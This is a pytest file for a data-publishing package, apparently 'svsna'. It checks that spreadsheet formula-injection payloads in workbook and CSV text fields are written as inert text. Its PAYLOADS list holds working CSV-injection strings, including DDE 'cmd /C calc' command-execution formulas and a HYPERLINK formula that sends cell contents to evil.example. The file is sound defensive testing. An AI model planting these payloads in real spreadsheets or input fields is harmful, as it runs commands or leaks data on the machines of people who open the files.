"""Formula payloads in every text field a workbook or CSV can carry: never a formula.

OWASP CSV injection: a cell beginning with ``= + - @``, tab or carriage return is run by a
spreadsheet. The payloads below go into section titles, table captions, column headings, cells,
source lines, definition and period names, input-hash labels, and every text column of an
indicator table (district and NPA names, indicator labels, breakdown values, file names).
(The end-to-end run in test_release_outputs.py carries payloads from partner extracts too.)
"""

from __future__ import annotations

import csv
import zipfile

import pandas as pd
import pytest

from svsna.cells import FORMULA_TRIGGERS
from svsna.indicators import indicator_rows
from svsna.outputs.content import Cell, Section, TableBlock
from svsna.outputs.workbook import write_indicator_files, write_workbook

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://x")',  # full-width equals sign
]


def _sections() -> list[Section]:
    s = Section("geography", PAYLOADS[0])
    s.number = 1
    rows = [[p, Cell(p, "num"), Cell("12", "num count", marker=p)] for p in PAYLOADS]
    s.add_table(TableBlock("t", PAYLOADS[1], [PAYLOADS[2], "Value", PAYLOADS[3]], rows, PAYLOADS[4], notes=PAYLOADS[5]))
    s.blocks[0].number = 1
    return [s]


def _indicators() -> pd.DataFrame:
    n = len(PAYLOADS)
    return indicator_rows(
        section="geography",
        indicator=PAYLOADS,
        period=PAYLOADS,
        area=PAYLOADS,
        breakdown="district",
        breakdown_value=PAYLOADS,
        numerator=[10.0] * n,
        value=[-1.5] * n,
        method=PAYLOADS,
        statistic="count",
        unit=PAYLOADS,
        suppression_reason=PAYLOADS,
        definition=PAYLOADS,
    )


@pytest.mark.parametrize("edition", ["full", "public"])
def test_no_formula_cell_from_any_text_field(tmp_path, edition):
    from openpyxl import load_workbook

    path = tmp_path / "book.xlsx"
    ledger = pd.DataFrame(dict.fromkeys(("source", "file", "outcome", "reason", "definition"), PAYLOADS) | {"rows": 1})
    meta = {
        "definitions": PAYLOADS,
        "periods": PAYLOADS,
        "input_hashes": {p: p for p in PAYLOADS},
        "svsna_version": "x",
    }
    write_workbook(
        path,
        _sections(),
        _indicators(),
        ledger,
        meta,
        marking="OFFICIAL-SENSITIVE" if edition == "full" else None,
        edition=edition,
        about=[(p, p) for p in PAYLOADS],
    )
    wb = load_workbook(path)
    texts = 0
    for ws in wb.worksheets:
        assert not ws.title.startswith(("=", "+", "-", "@"))
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.lstrip(" \u00a0").startswith(FORMULA_TRIGGERS), (ws.title, c.value)
                    texts += any(p.strip() in c.value for p in PAYLOADS)
                elif isinstance(c.value, int | float) and not isinstance(c.value, bool):
                    assert c.value in (10, 12, -1.5, 1), (ws.title, c.coordinate, c.value)  # numbers stay numbers
    assert texts > 40  # the payloads are there, as text
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name


def test_no_csv_cell_starts_with_a_trigger(tmp_path):
    write_indicator_files(_indicators(), tmp_path / "t.csv", tmp_path / "t.parquet")
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    payload_cells = 0
    for row in rows[1:]:
        for cell in row:
            if cell == "-1.5":
                continue  # a negative number is a number
            assert not cell.lstrip(" \u00a0").startswith(FORMULA_TRIGGERS), cell
            payload_cells += cell.startswith("'")
    assert payload_cells >= len(PAYLOADS) * 8
    # the Parquet copy keeps the data as it is (it is not opened by a spreadsheet)
    assert pd.read_parquet(tmp_path / "t.parquet")["indicator"].tolist() == PAYLOADS


def test_a_workbook_sheet_holds_values_never_formulas(tmp_path):
    """Every kind of column a table can hold: text with a payload stays text; NaN and infinities are
    blank (XlsxWriter would write an infinity as the formula =1/0); nullable and mixed columns keep
    their values; no formula cell anywhere."""
    import numpy as np
    from openpyxl import load_workbook

    from svsna.outputs.workbook import Book

    frame = pd.DataFrame(
        {
            "text": ["=1+1", "a", None],
            "float": [1.5, np.nan, np.inf],
            "int": [1, 2, 3],
            "nullable_int": pd.array([1, None, 3], dtype="Int64"),
            "bool": [True, False, True],
            "nullable_bool": pd.array([True, None, False], dtype="boolean"),
            "mixed": ["x", float("-inf"), 4],
        }
    )
    with Book(tmp_path / "t.xlsx") as book:
        book.sheet("T").table(frame)
        book.close({"title": "t"})
    ws = load_workbook(tmp_path / "t.xlsx")["T"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[1:] == [
        ("'=1+1", 1.5, 1, 1, True, True, "x"),
        ("a", None, 2, None, False, None, None),
        (None, None, 3, 3, True, False, 4),
    ]
    assert {c.data_type for row in ws.iter_rows() for c in row} <= {"s", "n", "b"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.xlsx"]  # no temporary folder left behind
